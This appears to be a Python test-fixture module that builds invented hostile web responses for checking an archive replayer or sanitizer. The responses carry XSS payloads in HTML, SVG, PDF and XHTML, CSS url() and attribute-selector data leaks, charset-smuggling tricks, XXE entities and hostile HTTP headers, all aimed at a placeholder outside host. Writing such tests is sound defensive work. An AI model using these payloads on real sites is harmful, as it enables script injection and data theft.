"""Answers of servers that try everything beyond what :mod:`hostile_pages` tries in bodies: headers, charsets, types, other formats.

Invented. Each shows the words 正文在此; each says ``ran`` on the console where a script of it runs.
"""

from __future__ import annotations

from hostile_pages import HOSTILE, OUTSIDE, RUN
from warcs import response_of

WORDS = "正文在此"
_HTML = b"Content-Type: text/html; charset=utf-8"
_TO = f"http://{OUTSIDE}"
_DATA_PAGE = f"data:text/html,<script>{RUN}</script>"
_SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="40" onload="{RUN}">'
    f'<script>{RUN}</script><style>@import url("{_TO}/svg.css"); text {{ fill: url("{_TO}/fill.svg#x") }}</style>'
    f'<image href="{_TO}/in.png" width="5" height="5"/><use xlink:href="{_TO}/use.svg#x"/>'
    f'<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{_TO}/frame"/></foreignObject>'
    f'<a xlink:href="javascript:{RUN}"><animate attributeName="href" values="{_TO}/anim"/><text y="20">{WORDS}</text></a></svg>'
)
SVG = _SVG.encode()
PDF = f"%PDF-1.4 1 0 obj<</OpenAction<</S/URI/URI({_TO}/pdf)>>/AA<</O<</S/JavaScript/JS({RUN})>>>>>>endobj".encode()
SHEET = f"""@charset "utf-8"; @namespace url({_TO}/ns); @import url("{_TO}/a.css") layer(x) supports(display: grid);
@import '{_TO}/b.css'; @\\69mport "{_TO}/c.css"; @font-face {{ font-family: f; src: url({_TO}/f.woff2) format("woff2"), src("{_TO}/g") }}
p {{ font-family: f; background: url({_TO}/p.png), u\\52 l("{_TO}/q.png"), url(\\68ttp\\3a//{OUTSIDE}/r.png), url(/**/{_TO}/s.png);
 cursor: url({_TO}/c.cur), auto; content: url({_TO}/d.png); list-style-image: url({_TO}/l.png); filter: url({_TO}/f.svg#x);
 mask: url({_TO}/m.svg); clip-path: url({_TO}/k.svg#x); border-image: url({_TO}/bi.png) 3; offset-path: url({_TO}/o.svg#x);
 background-image: -webkit-image-set("{_TO}/w.png" 1x); behavior: url({_TO}/b.htc); -moz-binding: url({_TO}/x.xml#x);
 width: expression({RUN}) }} p:before {{ content: "x" url( '{_TO}/e.png' ) }} input[value^=a] {{ background: url({_TO}/leak) }}
@document url({_TO}) {{ p {{ color: red }} }} p {{ background: url("{_TO}/open.png
"""

_PAGES = {
    **HOSTILE,
    "hints": (
        f"<link rel=preconnect href={_TO}><link rel=modulepreload href={_TO}/m.js><link rel=prerender href={_TO}/pr>"
        f"<link rel=manifest href={_TO}/m.json><link rel='dns-prefetch preload stylesheet' href={_TO}/dp.css as=style>"
        f"<link rel=import href={_TO}/i.html><link rel=pingback href={_TO}/pb><link rel=apple-touch-icon href={_TO}/t.png>"
        f'<script type=speculationrules>{{"prefetch":[{{"urls":["{_TO}/sp"]}}]}}</script>'
        f'<script type=importmap>{{"imports":{{"a":"{_TO}/im.js"}}}}</script><script type=module>import "a"</script>'
    ),
    "workers": (
        f"<script>{RUN};navigator.serviceWorker.register('/sw.js');new Worker('{_TO}/w.js');new WebSocket('ws://{OUTSIDE}/')"
        f";navigator.sendBeacon('{_TO}/b');fetch('{_TO}/f');open('{_TO}/popup');top.location='{_TO}/top';alert(1)</script>"
    ),
    "data documents": (
        f"<iframe src='{_DATA_PAGE}'></iframe><object data='{_DATA_PAGE}'></object><embed src='data:image/svg+xml,{_SVG}'>"
        f"<a id=go href='{_DATA_PAGE}'>x</a><a href='blob:{_TO}/1'>x</a><a href='view-source:{_TO}'>x</a>"
        f"<img src='data:image/svg+xml,{_SVG.replace(chr(39), '').replace('#', '%23')}'><a href='filesystem:{_TO}/x'>y</a>"
    ),
    "policy of its own": (
        "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'; img-src *\">"
        f"<meta http-equiv=Set-Cookie content='a=1'><meta name=referrer content=unsafe-url><script>{RUN}</script>"
        f"<meta http-equiv=x-dns-prefetch-control content=on><a href='{_TO}/'>x</a><meta http-equiv=origin-trial content=x>"
    ),
    "ways up": (
        f"<base target=_top><form target=_parent action=/language/en><input type=submit id=go></form><a href=/ target=_top>x</a>"
        f"<a href='/agencies' target=_parent>y</a><button popovertarget=p command=show-modal commandfor=p>z</button>"
        f"<div popover id=p>p</div><label for=go>x</label><a href='{_TO}/' rel=opener target=_blank>w</a><isindex action={_TO}>"
    ),
    "styles of its own": f"<style>{SHEET}</style><p style='{SHEET.partition('p {')[2].partition('}')[0]}'>x</p><input value=a>",
    "captured parts": (
        "<link rel=stylesheet href=evil.css><link rel=stylesheet href=evil.css media='print, (foo: bar)'><p>x</p>"
        "<img src=evil.svg><img src=evil.gif><image xlink:href=evil.svg><svg><use href=evil.svg#x /></svg>"
        "<object data=evil.svg type=image/svg+xml></object><iframe src=evil.html></iframe><input type=image src=evil.svg>"
        "<a id=go href=evil.html>a</a><a href=evil.svg>b</a><a href=evil.pdf>c</a><a href=evil.mht>d</a>"
    ),
    "plug-ins": (
        f"<object type=application/pdf data={_TO}/a.pdf><param name=src value={_TO}/b></object><embed type=application/pdf "
        f"src={_TO}/c.pdf><object classid='clsid:1' codebase={_TO}/d.cab></object><applet codebase={_TO} code=x></applet>"
        f"<embed src='javascript:{RUN}'><object data='javascript:{RUN}'></object><audio><source src={_TO}/a.ogg></audio>"
    ),
    "addresses in odd attributes": (
        f"<table background={_TO}/t.png><tr background={_TO}/r.png><td background={_TO}/d.png>x</table><q cite={_TO}/q>q</q>"
        f"<img longdesc={_TO}/l usemap=#m lowsrc={_TO}/w.png dynsrc={_TO}/d.avi src=javascript:{RUN.replace(' ', '/**/')}>"
        f"<body bgcolor=x profile={_TO}/p><input type=image formaction={_TO}/fa src={_TO}/s><track src={_TO}/v.vtt>"
        f"<math href=javascript:{RUN.replace(' ', '/**/')}><mtext xlink:href={_TO}/m>x</mtext></math><a href=' java&#10;script:{RUN}'>x</a>"
        f"<a href='&#1;javascript:{RUN}'>y</a><a href='http:/&#9;/{OUTSIDE}/tab'>z</a><a href='\\\\{OUTSIDE}\\back'>w</a>"
    ),
    "frameset": f"<frameset rows=* onload='{RUN}'><frame src='javascript:{RUN}'><frame src={_TO}/f><noframes>n</noframes></frameset>",
    "nesting": f"<p>{'<b>' * 300}<svg><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>{'</b>' * 300}",
}


def _page(body: str) -> bytes:
    return f"<!DOCTYPE html><title>{OUTSIDE}</title><p>{WORDS}</p>{body}".encode()


_SCRIPT = f"<script>{RUN}</script>"
_UTF7 = "<p>" + WORDS + "</p>" + _SCRIPT.replace("<", "+ADw-").replace(">", "+AD4-")
_XSL = (
    f"<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform' version='1.0'><xsl:template match='/'>{_SCRIPT}"
)

CAPTURES: dict[str, bytes] = {
    **{name: response_of(_page(body), _HTML) for name, body in _PAGES.items()},
    "headers": response_of(
        _page("x"),
        _HTML,
        f"Link: <{_TO}/l.css>; rel=preload; as=style, <{_TO}>; rel=preconnect, <{_TO}/m>; rel=modulepreload".encode(),
        f"Refresh: 0; url={_TO}/refresh".encode(),
        b"Set-Cookie: language=en; Path=/",
        b"Content-Security-Policy: default-src * 'unsafe-inline' data:",
        f"Content-Security-Policy-Report-Only: default-src 'none'; report-uri {_TO}/report".encode(),
        f'Report-To: {{"group":"default","max_age":9,"endpoints":[{{"url":"{_TO}/to"}}]}}'.encode(),
        f'Speculation-Rules: "{_TO}/rules"'.encode(),
        f"Location: {_TO}/location".encode(),
        b"Content-Disposition: attachment; filename=evil.exe",
        b"X-Frame-Options: DENY",
        b'Clear-Site-Data: "*"',
        b"Service-Worker-Allowed: /",
        f'Alt-Svc: h2="{OUTSIDE}:443"'.encode(),
        b"Access-Control-Allow-Origin: *",
        b"X-DNS-Prefetch-Control: on",
    ),
    "utf-7": response_of(_UTF7.encode(), b"Content-Type: text/html; charset=utf-7"),
    "utf-7 in meta": response_of(f"<meta charset=utf-7>{_UTF7}".encode(), b"Content-Type: text/html"),
    "utf-16": response_of(_page(_SCRIPT).decode().encode("utf-16"), b"Content-Type: text/html; charset=utf-8"),
    "iso-2022": response_of(
        _page("").replace(WORDS.encode(), WORDS.encode() + b"\x1b(J<script>\x1b$B") + _SCRIPT.encode() + b"\x1b(B",
        b"Content-Type: text/html; charset=iso-2022-jp",
    ),
    "wrong gbk": response_of(
        f"<meta charset=utf-8><p>{WORDS}</p>".encode("gbk") + b'<p title="\x81">' + _SCRIPT.encode() + b'"></p>',
        b"Content-Type: text/html; charset=gb2312",
    ),
    "sniffed picture": response_of(b"GIF89a/*" + _page(_SCRIPT) + b"*/", b"Content-Type: image/gif"),
    "plain text": response_of(_page(_SCRIPT), b"Content-Type: text/plain; charset=utf-8"),
    "no type": response_of(_page(_SCRIPT)),
    "xhtml": response_of(
        f'<?xml version="1.0" encoding="utf-8"?><?xml-stylesheet type="text/xsl" href="{_TO}/x.xsl"?><?xml-stylesheet '
        f'type="text/css" href="{_TO}/x.css"?><!DOCTYPE html [<!ENTITY x SYSTEM "{_TO}/ent">]><html xmlns="http://www.w3.org/'
        f'1999/xhtml"><body><p>{WORDS}&x;</p><script><![CDATA[{RUN}]]></script><e:script xmlns:e="http://www.w3.org/1999/xhtml">'
        f"{RUN}</e:script></body></html>".encode(),
        b"Content-Type: application/xhtml+xml",
    ),
    "xslt in data": response_of(
        f"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href=\"data:text/xsl,{_XSL}\"?><r><p>{WORDS}</p>{_SCRIPT}</r>".encode(),
        b"Content-Type: text/xml",
    ),
    "svg": response_of(SVG, b"Content-Type: image/svg+xml"),
    "mhtml": response_of(
        f"From: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n"
        f"Content-Location: {_TO}/\r\n\r\n<p>{WORDS}</p>{_SCRIPT}\r\n--b--".encode(),
        b"Content-Type: message/rfc822",
    ),
    "redirect": response_of(_page(_SCRIPT), _HTML, f"Location: {_TO}/moved".encode(), status=b"302 Found"),
}
"""Whole responses by what they try."""

PARTS: dict[str, tuple[bytes, bytes]] = {
    "evil.css": (SHEET.encode(), b"text/css"),
    "evil.svg": (SVG, b"image/svg+xml"),
    "evil.gif": (b"GIF89a/*" + _page(_SCRIPT) + b"*/", b"image/gif"),
    "evil.html": (_page(_SCRIPT), b"text/html"),
    "evil.pdf": (PDF, b"application/pdf"),
    "evil.mht": (_page(_SCRIPT), b"multipart/related"),
    "evil.xml": (f"<?xml-stylesheet type='text/xsl' href='{_TO}/x.xsl'?><r/>".encode(), b"text/xml"),
}
"""Files beside the pages: content and declared type."""
